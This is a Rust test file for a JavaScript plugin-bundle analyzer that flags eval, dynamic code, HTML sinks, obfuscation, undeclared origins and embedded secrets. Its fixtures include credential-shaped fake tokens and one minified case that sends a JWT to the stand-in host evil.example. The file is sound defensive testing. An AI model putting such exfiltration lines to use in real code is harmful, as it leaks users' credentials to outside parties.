//! Bundle analysis: a table of true and false positives, positions, limits, and a property test
//! that no input panics.

use plugin_warden::core::analysis::{
    analyze, analyze_bytes, AnalysisError, AnalysisOptions, AnalysisReport, Rule,
    DEFAULT_MAX_BYTES, MAX_EXCERPT_CHARS,
};
use plugin_warden::core::error::{Coded, ErrorCode};

fn opts() -> AnalysisOptions {
    AnalysisOptions {
        declared_origins: vec!["https://api.acme.example/v1/".to_owned()],
        ..AnalysisOptions::default()
    }
}

fn run(code: &str) -> AnalysisReport {
    analyze(code, &opts()).expect("within limits")
}

/// `rule/severity` of every finding, in order.
fn summary(code: &str) -> Vec<String> {
    run(code)
        .findings
        .iter()
        .map(|f| format!("{}/{}", f.rule.as_str(), f.severity.as_str()))
        .collect()
}

/// (what, code, expected `rule/severity` findings in order)
const CASES: &[(&str, &str, &[&str])] = &[
    // eval: true positives
    ("plain call", "eval(x)", &["no-eval/error"]),
    (
        "in a template substitution",
        "`a ${eval(x)} b`",
        &["no-eval/error"],
    ),
    (
        "nested templates",
        "`a ${ `b ${eval(x)}` } c`",
        &["no-eval/error"],
    ),
    (
        "call between divisions",
        "a / eval(x) / b",
        &["no-eval/error"],
    ),
    ("window.eval", "window.eval(x)", &["no-eval/error"]),
    (
        "optional call on globalThis",
        "globalThis.eval?.(x)",
        &["no-eval/error"],
    ),
    ("optional call", "eval?.(x)", &["no-eval/error"]),
    ("indirect eval alias", "(0, eval)(x)", &["no-eval/warning"]),
    (
        "eval as a value between divisions",
        "a / eval / b",
        &["no-eval/warning"],
    ),
    (
        "escaped identifier",
        r"\u0065val(x)",
        &["obfuscation-escaped-identifier/warning", "no-eval/error"],
    ),
    (
        "newline then division is still division",
        "a = b\n/eval(x)/g.exec(s)",
        &["no-eval/error"],
    ),
    (
        "braced escape identifier",
        r"\u{65}val(x)",
        &["obfuscation-escaped-identifier/warning", "no-eval/error"],
    ),
    (
        "a broken escape is no escaped identifier",
        r"a\uZZ + 1",
        &[],
    ),
    (
        "after a line continuation",
        "'a\\\nb'; eval(x)",
        &["no-eval/error"],
    ),
    (
        "after a hashbang",
        "#!/usr/bin/env node\neval(x)",
        &["no-eval/error"],
    ),
    // eval: false positives avoided
    ("double-quoted string", r#"s = "eval(x)""#, &[]),
    (
        "single-quoted string with escaped quote",
        r"s = 'it\'s eval(x)'",
        &[],
    ),
    ("line comment", "// eval(x)", &[]),
    ("block comment", "/* eval(x) */ a = 1", &[]),
    ("template text", "`eval(x)`", &[]),
    ("regex literal", r"x = /eval\(/.test(s)", &[]),
    (
        "regex with a class holding a slash",
        "re = /[/]eval(x)/",
        &[],
    ),
    (
        "regex after an if condition",
        "if (ok) /eval(x)/.test(s)",
        &[],
    ),
    (
        "regex after return",
        "function f() { return /eval(x)/ }",
        &[],
    ),
    ("method on an object", "obj.eval(x)", &[]),
    ("optional method on an object", "obj?.eval(x)", &[]),
    ("x.evaluate(", "x.evaluate(y)", &[]),
    ("identifier evaluate", "evaluate(y)", &[]),
    ("identifier medieval", "medieval(y)", &[]),
    ("typeof eval", "typeof eval === 'function'", &[]),
    ("object key", "o = { eval: 1, b: 2 }", &[]),
    ("string naming eval", "var name = \"eval\"", &[]),
    // Function constructor
    (
        "new Function",
        "new Function('return 1')",
        &["no-function-constructor/error"],
    ),
    (
        "Function call",
        "Function('a', 'return a')()",
        &["no-function-constructor/error"],
    ),
    (
        "new window.Function",
        "new window.Function('x')",
        &["no-function-constructor/error"],
    ),
    ("Function.prototype", "Function.prototype.call", &[]),
    ("instanceof Function", "x instanceof Function", &[]),
    // string timers
    ("setTimeout with a function", "setTimeout(fn, 10)", &[]),
    (
        "setTimeout with an arrow",
        "setTimeout(() => go(), 10)",
        &[],
    ),
    (
        "setTimeout with a string",
        "setTimeout(\"alert(1)\")",
        &["no-string-timer/error"],
    ),
    (
        "setInterval with a template",
        "setInterval(`tick()`, 5)",
        &["no-string-timer/error"],
    ),
    (
        "window.setTimeout with a string",
        "window.setTimeout('x()', 1)",
        &["no-string-timer/error"],
    ),
    ("a method named setTimeout", "clock.setTimeout('x', 1)", &[]),
    // HTML sinks
    (
        "innerHTML assignment",
        "el.innerHTML = x",
        &["no-html-sink/warning"],
    ),
    (
        "innerHTML append",
        "el.innerHTML += x",
        &["no-html-sink/warning"],
    ),
    (
        "outerHTML assignment",
        "el.outerHTML = x",
        &["no-html-sink/warning"],
    ),
    (
        "computed innerHTML",
        "el[\"innerHTML\"] = x",
        &["no-html-sink/warning"],
    ),
    (
        "insertAdjacentHTML",
        "el.insertAdjacentHTML('beforeend', x)",
        &["no-html-sink/warning"],
    ),
    ("innerHTML read", "const h = el.innerHTML;", &[]),
    ("innerHTML compared", "if (el.innerHTML == x) {}", &[]),
    ("innerHTML strict compared", "el.innerHTML === x", &[]),
    ("textContent assignment", "el.textContent = x", &[]),
    // document.write
    (
        "document.write",
        "document.write('<p>')",
        &["no-document-write/warning"],
    ),
    (
        "document.writeln",
        "window.document.writeln(x)",
        &["no-document-write/warning"],
    ),
    ("stream.write", "stream.write(x)", &[]),
    // dynamic import
    ("import of a literal", "import('./x.js')", &[]),
    ("import of a plain template", "import(`./x.js`)", &[]),
    (
        "import with options",
        "import('./x.json', { with: { type: 'json' } })",
        &[],
    ),
    (
        "static import",
        "import x from './x.js'; import.meta.url",
        &[],
    ),
    (
        "import of a name",
        "import(name)",
        &["no-dynamic-import/warning"],
    ),
    (
        "import of a concatenation",
        "import('./' + name)",
        &["no-dynamic-import/warning"],
    ),
    (
        "import of a template",
        "import(`./${name}.js`)",
        &["no-dynamic-import/warning"],
    ),
    ("a method named import", "loader.import(name)", &[]),
    // computed global access
    (
        "non-literal key",
        "window[name]",
        &["computed-global-access/warning"],
    ),
    (
        "concatenated key",
        "window[\"ev\" + \"al\"](x)",
        &["computed-global-access/error"],
    ),
    (
        "literal eval key",
        "globalThis[\"eval\"](x)",
        &["computed-global-access/error"],
    ),
    (
        "literal Function key",
        "self['Function']('x')",
        &["computed-global-access/error"],
    ),
    (
        "template key",
        "top[`ev${'al'}`](x)",
        &["computed-global-access/error"],
    ),
    ("harmless literal key", "window[\"myCallback\"](data)", &[]),
    ("property named window", "obj.window[k]", &[]),
    // origins
    (
        "declared origin",
        "fetch(\"https://api.acme.example/v1/x\")",
        &[],
    ),
    (
        "declared origin, other path",
        "fetch('https://api.acme.example/v2')",
        &[],
    ),
    (
        "undeclared origin",
        "fetch(\"https://evil.example/x\")",
        &["undeclared-origin/warning"],
    ),
    (
        "other scheme",
        "fetch('http://api.acme.example/v1')",
        &["undeclared-origin/warning"],
    ),
    (
        "other port",
        "fetch('https://api.acme.example:8443/v1')",
        &["undeclared-origin/warning"],
    ),
    (
        "upper-case scheme",
        "fetch('HTTPS://EVIL.example/')",
        &["undeclared-origin/warning"],
    ),
    (
        "escaped slashes",
        r"fetch('https:\x2f\x2fevil.example/')",
        &["undeclared-origin/warning"],
    ),
    (
        "in a template",
        "fetch(`https://evil.example/${p}`)",
        &["undeclared-origin/warning"],
    ),
    (
        "computed host",
        "fetch(`https://${host}/x`)",
        &["undeclared-origin/warning"],
    ),
    (
        "one report per origin",
        "a = 'https://evil.example/1 https://evil.example/2'",
        &["undeclared-origin/warning"],
    ),
    (
        "xml namespace",
        "const ns = \"http://www.w3.org/2000/svg\"",
        &[],
    ),
    ("in a comment", "// see https://evil.example/docs\nx()", &[]),
    ("in a regex", "re = /https:\\/\\/evil.example/", &[]),
    ("scheme only", "if (u.startsWith('https://')) {}", &[]),
    // obfuscation
    (
        "escape-dense string",
        r"s = '\x65\x76\x61\x6c\x28\x29'",
        &["obfuscation-escaped-identifier/warning"],
    ),
    (
        "escaped non-ASCII text",
        r"s = '\u4f60\u597d\u4e16\u754c'",
        &[],
    ),
    ("one escaped letter", r"s = 'caf\u00e9 au lait'", &[]),
    // unterminated input
    (
        "unterminated string",
        "s = \"open",
        &["parse-error/warning"],
    ),
    (
        "string cut by a newline",
        "s = 'open\neval(x)",
        &["parse-error/warning", "no-eval/error"],
    ),
    (
        "unterminated template",
        "s = `open ${x}",
        &["parse-error/warning"],
    ),
    (
        "unterminated substitution",
        "s = `open ${eval(x)",
        &["parse-error/warning", "no-eval/error"],
    ),
    ("unterminated comment", "/* open", &["parse-error/warning"]),
    ("unterminated regex", "x = /open", &["parse-error/warning"]),
    ("lone backslash", "\\ eval(x)", &["no-eval/error"]),
];

#[test]
fn rule_table() {
    assert!(CASES.len() >= 40);
    let mut failures = Vec::new();
    for (what, code, expected) in CASES {
        let got = summary(code);
        if got != *expected {
            failures.push(format!(
                "{what}: {code:?}\n  expected {expected:?}\n  got      {got:?}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failing:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn every_rule_is_exercised_and_serializes_as_its_id() {
    let all: String = CASES
        .iter()
        .flat_map(|c| c.2.iter().copied())
        .chain(secret_cases().into_iter().flat_map(|c| c.2))
        .collect::<Vec<_>>()
        .join(" ");
    for rule in Rule::ALL {
        let json = serde_json::to_string(&rule).unwrap();
        assert_eq!(json, format!("\"{}\"", rule.as_str()));
        if rule != Rule::ObfuscationLongLine {
            assert!(
                all.contains(rule.as_str()),
                "no table case for {}",
                rule.as_str()
            );
        }
    }
}

#[test]
fn lines_and_columns() {
    let code = "let a = 1;\r\n  // comment\n\tx.innerHTML = y;\u{2028}const s = \"😀\"; eval(s);\n`line\nspanning ${eval(t)}`\rnew Function()";
    let report = run(code);
    let got: Vec<(Rule, usize, usize, &str)> = report
        .findings
        .iter()
        .map(|f| (f.rule, f.line, f.column, f.excerpt.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (Rule::NoHtmlSink, 3, 4, "x.innerHTML = y;"),
            // "😀" is two UTF-16 code units: `const s = "😀"; ` is 16 columns (15 characters)
            (Rule::NoEval, 4, 17, "const s = \"😀\"; eval(s);"),
            (Rule::NoEval, 6, 12, "spanning ${eval(t)}`"),
            (Rule::NoFunctionConstructor, 7, 5, "new Function()"),
        ]
    );
    assert_eq!(report.lines, 7);
    assert_eq!(report.bytes, code.len());
}

#[test]
fn line_counts() {
    for (code, lines) in [
        ("", 0),
        ("a", 1),
        ("a\n", 1),
        ("a\nb", 2),
        ("\n\n", 2),
        ("a\r\nb\r\n", 2),
        ("a\rb\u{2029}c", 3),
    ] {
        assert_eq!(run(code).lines, lines, "{code:?}");
    }
}

#[test]
fn long_obfuscated_lines_are_flagged_and_long_plain_lines_are_not() {
    let escapes = r"\x61".repeat(300); // 1200 characters of escapes
    let code = format!("var a = 1;\nvar s = '{escapes}';\nrun(s)");
    let report = run(&code);
    let rules: Vec<(Rule, usize, usize)> = report
        .findings
        .iter()
        .map(|f| (f.rule, f.line, f.column))
        .collect();
    assert_eq!(
        rules,
        [
            (Rule::ObfuscationLongLine, 2, 1),
            (Rule::ObfuscationEscapedIdentifier, 2, 9)
        ]
    );
    assert!(report
        .findings
        .iter()
        .all(|f| f.excerpt.chars().count() <= MAX_EXCERPT_CHARS));
    assert!(!report.has_errors());

    let hex = vec!["0x1f"; 300].join(",");
    let report = run(&format!("var t=[{hex}];"));
    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.findings[0].rule, Rule::ObfuscationLongLine);

    let minified = "a=b+c;".repeat(400);
    assert!(run(&minified).findings.is_empty());
}

#[test]
fn excerpt_of_a_long_minified_line_is_a_window_around_the_finding() {
    let code = format!("{}eval(x);{}", "a=b+c;".repeat(300), "d=e;".repeat(300));
    let report = run(&code);
    assert_eq!(report.findings.len(), 1);
    let f = &report.findings[0];
    assert_eq!((f.line, f.column), (1, 1801));
    assert!(
        f.excerpt.chars().count() <= MAX_EXCERPT_CHARS,
        "{}",
        f.excerpt
    );
    assert!(f.excerpt.contains("eval(x);"), "{}", f.excerpt);
    assert!(f.excerpt.starts_with('…') && f.excerpt.ends_with('…'));
}

#[test]
fn size_limit_rejects_before_scanning() {
    let code = " ".repeat(DEFAULT_MAX_BYTES + 1);
    let err = analyze(&code, &AnalysisOptions::default()).unwrap_err();
    assert_eq!(err.code(), ErrorCode::BundleRejected);
    assert_eq!(
        err,
        AnalysisError::TooLarge {
            bytes: DEFAULT_MAX_BYTES + 1,
            max: DEFAULT_MAX_BYTES
        }
    );
    let small = AnalysisOptions {
        max_bytes: 8,
        ..AnalysisOptions::default()
    };
    assert!(analyze("12345678", &small).is_ok());
    assert!(analyze("123456789", &small).is_err());
    assert!(matches!(
        analyze_bytes(b"123456789", &small),
        Err(AnalysisError::TooLarge { .. })
    ));
}

#[test]
fn bytes_must_be_utf8() {
    let err = analyze_bytes(b"let s = '\xc3';", &AnalysisOptions::default()).unwrap_err();
    assert_eq!(err, AnalysisError::NotUtf8 { offset: 9 });
    assert_eq!(err.code(), ErrorCode::BundleRejected);
}

#[test]
fn a_flood_of_warnings_cannot_hide_an_error() {
    let code = format!("{}\neval(x)", "window[k];".repeat(50));
    let limited = AnalysisOptions {
        max_findings: 5,
        ..AnalysisOptions::default()
    };
    let report = analyze(&code, &limited).unwrap();
    assert_eq!(report.warning_count, 50);
    assert_eq!(report.error_count, 1);
    assert_eq!(report.findings.len(), 6);
    assert!(report.truncated);
    assert!(report.has_errors());
    assert_eq!(report.errors().next().map(|f| f.line), Some(2));
    let err = report.check().unwrap_err();
    assert_eq!(err.code(), ErrorCode::BundleRejected);
    assert!(err.to_string().contains("no-eval at 2:1"), "{err}");
}

#[test]
fn warnings_alone_pass_the_check() {
    let report = run("el.innerHTML = x; fetch('https://evil.example/')");
    assert_eq!(report.warning_count, 2);
    assert!(!report.has_errors());
    assert_eq!(report.check(), Ok(()));
}

#[test]
fn report_serializes_for_javascript() {
    let report = run("eval(x)");
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(json["findings"][0]["rule"], "no-eval");
    assert_eq!(json["findings"][0]["severity"], "error");
    assert_eq!(json["findings"][0]["line"], 1);
    assert_eq!(json["errorCount"], 1);
    assert_eq!(json["warningCount"], 0);
    assert!(json.get("error_count").is_none());
    assert_eq!(json["lines"], 1);
}

#[cfg(not(target_arch = "wasm32"))]
mod properties {
    use super::*;
    use proptest::prelude::*;

    /// Lengths in UTF-16 units of each line, split on every JS line terminator.
    fn line_lengths(code: &str) -> Vec<usize> {
        let mut lines = vec![0usize];
        let mut chars = code.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '\r' if chars.peek() == Some(&'\n') => {}
                '\n' | '\r' | '\u{2028}' | '\u{2029}' => lines.push(0),
                c => {
                    if let Some(last) = lines.last_mut() {
                        *last += c.len_utf16();
                    }
                }
            }
        }
        lines
    }

    fn check_bounds(code: &str) -> AnalysisReport {
        let report = analyze(code, &opts()).expect("small inputs are within limits");
        let lengths = line_lengths(code);
        let expected_lines = match lengths.last() {
            _ if code.is_empty() => 0,
            Some(0) => lengths.len() - 1,
            _ => lengths.len(),
        };
        assert_eq!(report.lines, expected_lines, "{code:?}");
        for f in &report.findings {
            assert!(f.line >= 1 && f.line <= report.lines, "{f:?} in {code:?}");
            let len = lengths[f.line - 1];
            assert!(
                f.column >= 1 && f.column <= len.max(1),
                "{f:?} (line is {len} units) in {code:?}"
            );
            assert!(f.excerpt.chars().count() <= MAX_EXCERPT_CHARS);
        }
        assert_eq!(
            report.error_count + report.warning_count,
            report.findings.len(),
            "nothing is dropped under the default cap"
        );
        report
    }

    const PIECES: &[&str] = &[
        "eval",
        "(",
        ")",
        "`",
        "${",
        "}",
        "{",
        "/",
        "/*",
        "*/",
        "//",
        "\"",
        "'",
        "\\",
        "\\u0065",
        "\\x41",
        "\n",
        "\r\n",
        "\r",
        "\u{2028}",
        " ",
        "x",
        "1",
        "0x1f",
        ".",
        "?.",
        "=",
        "+=",
        "window",
        "[",
        "]",
        "import",
        "new",
        "Function",
        "setTimeout",
        "if",
        "return",
        "😀",
        "é",
        "https://evil.example/",
        "innerHTML",
        "document",
        "write",
        ",",
        ";",
        "#!",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        #[test]
        fn arbitrary_strings_never_panic(code in any::<String>()) {
            check_bounds(&code);
        }

        #[test]
        fn token_soup_never_panics(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
            check_bounds(&pieces.concat());
        }

        #[test]
        fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            let _ = analyze_bytes(&bytes, &AnalysisOptions::default());
        }

        /// Fragments of every secret format, shuffled with code: no panic, and whatever the
        /// scanner found never shows in full in a finding.
        #[test]
        fn secret_soup_never_panics_or_leaks(pieces in prop::collection::vec(prop::sample::select(SECRET_PIECES), 0..40)) {
            let code = pieces.concat();
            let report = check_bounds(&code);
            let json = serde_json::to_string(&report).unwrap();
            // The pieces hold no line terminator: one line, columns in UTF-16 units.
            for f in report.findings.iter().filter(|f| f.rule.as_str().starts_with("secret-")) {
                let len: usize = f.message.rsplit_once("…(").and_then(|(_, r)| r.split(' ').next()).and_then(|n| n.parse().ok()).expect("a redacted length");
                let mut units = 1;
                let start = code.char_indices().find(|(_, c)| { let here = units; units += c.len_utf16(); here == f.column }).map(|(i, _)| i).expect("a column in the line");
                let secret = &code[start..start + len];
                prop_assert!(!json.contains(secret), "{secret} in {json}");
            }
        }
    }

    const SECRET_PIECES: &[&str] = &[
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "-----BEGIN ",
        super::FAKE_PEM_BODY,
        "\\\\n",
        "\\n",
        " \\r\\n ",
        super::AWS_KEY,
        "AKIA",
        "eyJhbGciOiJIUzI1NiJ9",
        "eyJ",
        ".",
        "apiKey",
        "\"api_key\"",
        "=",
        ":",
        "'",
        "\"",
        "`",
        "9f8e7d6c5b4a3f2e1d0c",
        "ghp_",
        "xoxb-",
        "123",
        "-",
        "sk_live_",
        " ",
        "😀",
        "eval(x);",
    ];
}

// ---------------------------------------------------------------------------------------------
// Secret scanning
// ---------------------------------------------------------------------------------------------

/// A PEM body that is obviously not a key (base64 of repeated text) but has the shape.
const FAKE_PEM_BODY: &str =
    "TUlJRXZRSUJBREFOQmdrcWhraUc5dzBCQVFFRkFBU0NCS2N3Z2dTakFnRUFBb0lCQVFDN0ZBS0VLRVlGQUtFS0VZ";
const AWS_KEY: &str = "AKIAIOSFODNN7EXAMPLE";
// Token-shaped test values are built with `concat!` so that this file does not itself hold
// anything a repository secret scanner would flag.
const GH_TOKEN: &str = concat!("ghp", "_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ");
const STRIPE_LIVE: &str = concat!("sk", "_live_4eC39HqLyjWDarjtT1zdp7dc");
/// `{"alg":"HS256","typ":"JWT"}` . `{"sub":"fake"}` . signature
const JWT: &str =
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJmYWtlIn0.c2lnbmF0dXJlLW5vdC1yZWFs";

fn pem(label: &str) -> String {
    format!("-----BEGIN {label}-----\n{FAKE_PEM_BODY}\n{FAKE_PEM_BODY}\n-----END {label}-----\n")
}

/// (what, code, expected `rule/severity` findings in order): true positives and placeholders.
fn secret_cases() -> Vec<(&'static str, String, Vec<&'static str>)> {
    let s = |x: &str| x.to_owned();
    vec![
        ("pem in a comment", format!("/*\n{}*/", pem("PRIVATE KEY")), vec!["secret-private-key/error"]),
        ("rsa pem in a template", format!("const k = `{}`;", pem("RSA PRIVATE KEY")), vec!["secret-private-key/error"]),
        (
            "pem in a JSON string with \\n escapes (service account)",
            format!("const sa = {{\"type\": \"service_account\", \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{FAKE_PEM_BODY}\\n-----END PRIVATE KEY-----\\n\"}};"),
            vec!["secret-private-key/error"],
        ),
        ("openssh pem", pem("OPENSSH PRIVATE KEY"), vec!["secret-private-key/error"]),
        ("a parser's marker constant", s("const H = '-----BEGIN PRIVATE KEY-----'; if (pem.startsWith(H)) parse(pem);"), vec![]),
        ("a public key", format!("-----BEGIN PUBLIC KEY-----\n{FAKE_PEM_BODY}\n-----END PUBLIC KEY-----"), vec![]),
        ("aws key id", format!("const id = '{AWS_KEY}';"), vec!["secret-aws-access-key/error"]),
        ("aws temporary key id", s("x = \"ASIAY34FZKBOKMUTVV7A\""), vec!["secret-aws-access-key/error"]),
        ("aws inside a longer word", format!("x = 'X{AWS_KEY}'"), vec![]),
        ("aws after a \\n escape", format!("x = 'id:\\n{AWS_KEY}'"), vec!["secret-aws-access-key/error"]),
        ("aws too long", format!("x = '{AWS_KEY}Q'"), vec![]),
        ("aws wrong charset", s("x = 'AKIA0000111188889999'"), vec![]),
        ("github classic", format!("fetch(u, {{ headers: {{ a: 'token {GH_TOKEN}' }} }})"), vec!["secret-github-token/error"]),
        ("github fine-grained", format!("t = '{}_11ABCDEFG0123456789abc_{}'", "github_pat", "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5hJ7kL9mN1pQ3sT5vW7yZ9aQ3s"), vec!["secret-github-token/error"]),
        ("github placeholder", s("t = 'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'"), vec![]),
        ("slack bot token", format!("const slack = '{}-2401234567-2412345678901-AbCdEfGhIjKlMnOpQrStUvWx';", "xoxb"), vec!["secret-slack-token/error"]),
        ("slack placeholder", s("const slack = 'xoxb-your-bot-token-here';"), vec![]),
        ("stripe live", format!("stripe('{STRIPE_LIVE}')"), vec!["secret-stripe-key/error"]),
        ("stripe test", format!("stripe('{}_test_4eC39HqLyjWDarjtT1zdp7dc')", "sk"), vec!["secret-stripe-key/warning"]),
        ("stripe publishable", s("stripe('pk_live_4eC39HqLyjWDarjtT1zdp7dc')"), vec![]),
        ("stripe placeholder", s("stripe('sk_live_xxxxxxxxxxxxxxxxxxxxxxxx')"), vec![]),
        ("jwt", format!("headers.Authorization = 'Bearer {JWT}';"), vec!["secret-jwt/warning"]),
        ("jwt-shaped, header not JSON", s("x = 'eyJub3Qgc29tZSBqc29u.eyJzdWIiOiJmYWtlIn0.sig'"), vec![]),
        ("jwt header without alg", s("x = 'eyJ0eXAiOiJKV1QifQ.eyJzdWIiOiJmYWtlIn0.sig'"), vec![]),
        // `{"alg":"HS256","k":"é"}` is a header; the same with a lone 0xFF byte is not JSON text.
        ("jwt header with non-ASCII text", s("x = 'eyJhbGciOiJIUzI1NiIsImsiOiLDqSJ9.eyJzdWIiOiJmYWtlIn0.sig'"), vec!["secret-jwt/warning"]),
        ("jwt header not UTF-8", s("x = 'eyJhbGciOiJIUzI1NiIsImsiOiL_In0.eyJzdWIiOiJmYWtlIn0.sig'"), vec![]),
        ("api key literal", s("const apiKey = '9f8e7d6c5b4a3f2e1d0c';"), vec!["secret-literal/warning"]),
        ("json secret", s("{\"client_secret\": \"Zq8Rk2Lw9Xt4Vb7Nm3Pc\"}"), vec!["secret-literal/warning"]),
        ("query string", s("fetch('/v1/data?api_key=9f8e7d6c5b4a3f2e1d0c&q=1')"), vec!["secret-literal/warning"]),
        ("object password", s("login({ user: 'bob', password: 'S3cr3tP4ss!' })"), vec!["secret-literal/warning"]),
        ("env style", s("DB_PASSWORD=Tr0ub4dor3xyz"), vec!["secret-literal/warning"]),
        ("placeholder xxx", s("const apiKey = 'xxxxxxxxxxxx';"), vec![]),
        ("placeholder changeme", s("const password = 'changeme';"), vec![]),
        ("placeholder angle", s("const apiKey = '<your-key>';"), vec![]),
        ("placeholder template", s("const apiKey = `${process.env.KEY}`;"), vec![]),
        ("placeholder env", s("const token = process.env.TOKEN;"), vec![]),
        ("placeholder your", s("const secret = 'your-secret-here-123';"), vec![]),
        ("placeholder password123", s("const password = 'password123';"), vec![]),
        ("empty", s("const password = '';"), vec![]),
        ("short", s("const token = 'a1b2c3';"), vec![]),
        ("not a literal", s("const apiKey = getKey(); config.token = t;"), vec![]),
        ("comparison", s("if (password === 'Tr0ub4dor3xyz') {}"), vec![]),
        ("other name", s("const label = '9f8e7d6c5b4a3f2e1d0c';"), vec![]),
        ("google browser key", s("const firebase = { apiKey: 'AIzaSyD4fakeFAKEfake4fakeFAKEfake4fake' };"), vec![]),
        ("word not random", s("const token = 'access_token';"), vec![]),
    ]
}

#[test]
fn secret_table() {
    for (what, code, want) in secret_cases() {
        let got: Vec<String> = summary(&code)
            .into_iter()
            .filter(|s| s.starts_with("secret-"))
            .collect();
        assert_eq!(got, want, "{what}: {code}");
    }
}

#[test]
fn secret_positions_and_redacted_excerpts() {
    let code =
        format!("let a = 1;\n  const id = \"{AWS_KEY}\"; el.innerHTML = id;\n😀 t = '{JWT}'");
    let report = run(&code);
    let got: Vec<(&str, usize, usize, &str)> = report
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.line, f.column, f.excerpt.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (
                "secret-aws-access-key",
                2,
                15,
                "const id = \"AKIA…(20 chars)\"; el.innerHTML = id;"
            ),
            (
                "no-html-sink",
                2,
                41,
                "const id = \"AKIA…(20 chars)\"; el.innerHTML = id;"
            ),
            ("secret-jwt", 3, 9, "😀 t = 'eyJ…(81 chars)'"),
        ]
    );
    assert!(report.findings[0].message.contains("AKIA…(20 chars)"));
    assert!(report.has_errors());
    let err = report.check().unwrap_err();
    assert!(err.to_string().contains("secret-aws-access-key"));
}

/// Every secret is absent from every output: messages, excerpts, the JSON report, the
/// rejection error, including on long minified lines where excerpts are windows.
#[test]
fn no_output_holds_a_secret() {
    let secrets = [
        AWS_KEY.to_owned(),
        GH_TOKEN.to_owned(),
        JWT.to_owned(),
        FAKE_PEM_BODY.to_owned(),
        "9f8e7d6c5b4a3f2e1d0c".to_owned(),
        STRIPE_LIVE.to_owned(),
    ];
    let mut cases: Vec<String> = secret_cases().into_iter().map(|c| c.1).collect();
    let minified = format!(
        "{}var a='{AWS_KEY}',b='{GH_TOKEN}';eval(a);x.innerHTML=b;var apiKey='9f8e7d6c5b4a3f2e1d0c';{}fetch('https://evil.example/?k={JWT}');stripe('{STRIPE_LIVE}')",
        "x=1;".repeat(200),
        "y=2;".repeat(200)
    );
    cases.push(minified);
    cases.push(format!("eval(x); const k = \"-----BEGIN PRIVATE KEY-----\\n{FAKE_PEM_BODY}\\n-----END PRIVATE KEY-----\"; eval(y);"));
    for code in cases {
        let report = run(&code);
        let json = serde_json::to_string(&report).unwrap();
        let err = report
            .check()
            .map_err(|e| e.to_string())
            .err()
            .unwrap_or_default();
        for secret in &secrets {
            // A secret's first bytes may be shown (`AKIA`, `eyJ`): look for more than that.
            let probe = &secret[secret.len() / 2..];
            assert!(!json.contains(probe), "{probe} in {json}");
            assert!(!err.contains(probe), "{probe} in {err}");
        }
        for f in &report.findings {
            assert!(
                f.excerpt.chars().count() <= MAX_EXCERPT_CHARS,
                "{}",
                f.excerpt
            );
        }
    }
}

#[test]
fn secrets_in_other_text_files() {
    use plugin_warden::core::analysis::scan_secrets;
    let env = format!("# credentials\nAWS_ACCESS_KEY_ID={AWS_KEY}\nAPI_KEY=changeme\n");
    let report = scan_secrets(&env, &AnalysisOptions::default()).unwrap();
    let got: Vec<(&str, usize, usize)> = report
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.line, f.column))
        .collect();
    assert_eq!(got, [("secret-aws-access-key", 2, 19)]);
    // Not JavaScript: `eval` in a JSON file is not a finding of this scan.
    assert!(
        scan_secrets("{\"eval(x)\": 1}", &AnalysisOptions::default())
            .unwrap()
            .findings
            .is_empty()
    );
}
